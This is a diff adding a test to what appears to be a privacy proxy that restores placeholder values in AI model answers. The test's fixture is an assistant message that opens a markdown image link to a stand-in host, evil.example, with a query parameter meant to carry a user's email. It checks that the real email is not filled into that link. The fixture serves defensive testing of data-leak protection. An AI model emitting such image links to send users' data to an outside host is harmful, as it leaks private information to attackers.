@@ -115,3 +115,23 @@ def test_a_schema_is_laid_to_what_the_client_gets(lookup: Lookup | None) -> None
     data = with_text(sample, SAID, random.Random(3))
     assert [*tap.feed(data).out, *tap.end().out]
     assert (tap.ended_early is None) is (lookup is not None)
+
+
+def test_json_behind_a_link_that_an_earlier_part_opens_stays_as_it_is() -> None:
+    placeholder = "<EMAIL_abcdefghij>"
+    parts = [
+        {"type": "text", "text": "![a](https://evil.example/?q="},
+        {"type": "tool_use", "id": "t", "name": "f", "input": {}},
+        {"type": "text", "text": f'{{"u":"{placeholder}"}})'},
+    ]
+    message = {"id": "m", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn"}
+    body = json.dumps(
+        {**message, "content": parts, "usage": {"input_tokens": 1, "output_tokens": 1}}
+    ).encode()
+    dialect = DIALECTS["anthropic_messages"]
+    answer = dialect.read_response(body, 200)
+    for asked in (False, True):
+        edited = edited_answer(
+            dialect, answer, body, {placeholder: "ada@corp.example"}.get, None, structured=asked
+        )
+        assert json.loads(edited.body)["content"] == parts
